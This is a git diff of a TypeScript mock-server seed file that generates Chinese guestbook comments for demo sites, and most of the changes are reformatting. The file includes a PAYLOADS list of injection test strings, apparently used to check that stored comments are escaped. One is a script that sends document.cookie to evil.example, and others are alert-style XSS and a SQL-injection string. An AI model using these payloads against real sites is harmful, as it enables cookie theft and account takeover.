@@ -4,8 +4,18 @@ import { seedDomains } from '../seeds'
 
 /** What visitors of each kind of site write in the guestbook, keyed by the domain's slug (src/mock-server/seeds.ts). */
 const topicMessages: Record<string, string[]> = {
-  meishi: ['请问红烧肉炒糖色要炒到什么程度？我每次都炒糊了。', '照着做了可乐鸡翅，家里小朋友吃了两碗饭！', '烤箱温度是上下火都 180 度吗？', '求一个不用烤箱的蛋糕做法～'],
-  lvxing: ['下个月想去大理，住古城还是洱海边比较好？', '攻略太实用了，按这个路线走了一趟云南，省了不少钱。', '请问川西小环线十月份去会不会下雪？', '民宿推荐能不能更新一下，有几家已经关门了。'],
+  meishi: [
+    '请问红烧肉炒糖色要炒到什么程度？我每次都炒糊了。',
+    '照着做了可乐鸡翅，家里小朋友吃了两碗饭！',
+    '烤箱温度是上下火都 180 度吗？',
+    '求一个不用烤箱的蛋糕做法～',
+  ],
+  lvxing: [
+    '下个月想去大理，住古城还是洱海边比较好？',
+    '攻略太实用了，按这个路线走了一趟云南，省了不少钱。',
+    '请问川西小环线十月份去会不会下雪？',
+    '民宿推荐能不能更新一下，有几家已经关门了。',
+  ],
   keji: ['这款手机的续航实测能到多少？', '评测很中肯，比某些恰饭博主强多了。', '能出一期国产大模型的横向对比吗？', '笔记本散热那段讲得不够细，能补充一下吗？'],
   jiankang: ['每天快走一万步真的有用吗？', '按文章里的方法调整作息一个月，睡眠好多了。', '请问膝盖不好适合做哪些运动？', '早餐只喝燕麦会不会营养不够？'],
   jiaju: ['小户型的收纳方案太有用了，已收藏。', '请问墙面用乳胶漆还是艺术漆好打理？', '装修预算表能不能分享一份模板？', '开放式厨房油烟问题怎么解决？'],
@@ -43,7 +53,7 @@ export const PAYLOADS = [
   '写得真好！<script>document.location="http://evil.example/?c="+document.cookie</script>',
   '<svg onload=alert(document.domain)>',
   `<iframe src="javascript:alert('iframe')"></iframe>`,
-  '"><img src=x onerror=alert(\'attr\')>',
+  "\"><img src=x onerror=alert('attr')>",
   '<div style="position:fixed;inset:0;background:red">覆盖整个页面</div>',
   "' OR '1'='1'; --",
 ]
@@ -72,7 +82,8 @@ function contact(random: Random): string {
   return `${random.pick(['xiao', 'lily', 'zhang', 'wang', 'sunny', 'mike', 'ai'])}${random.int(1, 9999)}@${random.pick(mailHosts)}`
 }
 
-const ip = (random: Random) => `${random.pick([36, 58, 101, 112, 113, 119, 120, 183, 220, 223])}.${random.int(0, 255)}.${random.int(0, 255)}.${random.int(1, 254)}`
+const ip = (random: Random) =>
+  `${random.pick([36, 58, 101, 112, 113, 119, 120, 183, 220, 223])}.${random.int(0, 255)}.${random.int(0, 255)}.${random.int(1, 254)}`
 
 function buildComments(count: number): Omit<GuestComment, 'id'>[] {
   const random = seededRandom(20261115)
@@ -84,7 +95,13 @@ function buildComments(count: number): Omit<GuestComment, 'id'>[] {
     const payload = index % 17 === 3
     const spam = !payload && roll < 0.12
     const status: CommentStatus = spam ? 'spam' : payload ? random.pick(['pending', 'approved', 'spam'] as const) : roll < 0.35 ? 'pending' : 'approved'
-    const content = payload ? random.pick(PAYLOADS) : spam ? random.pick(spamMessages) : random.chance(0.75) ? random.pick(topicMessages[slug] ?? generalMessages) : random.pick(generalMessages)
+    const content = payload
+      ? random.pick(PAYLOADS)
+      : spam
+        ? random.pick(spamMessages)
+        : random.chance(0.75)
+          ? random.pick(topicMessages[slug] ?? generalMessages)
+          : random.pick(generalMessages)
     const created = Date.parse(daysBefore(random.int(0, 180) + random.next()))
     const replied = status !== 'spam' && random.chance(status === 'approved' ? 0.4 : 0.08)
     const repliedAt = replied ? new Date(Math.min(SEED_NOW, created + random.int(1, 72) * 3_600_000)).toISOString() : null
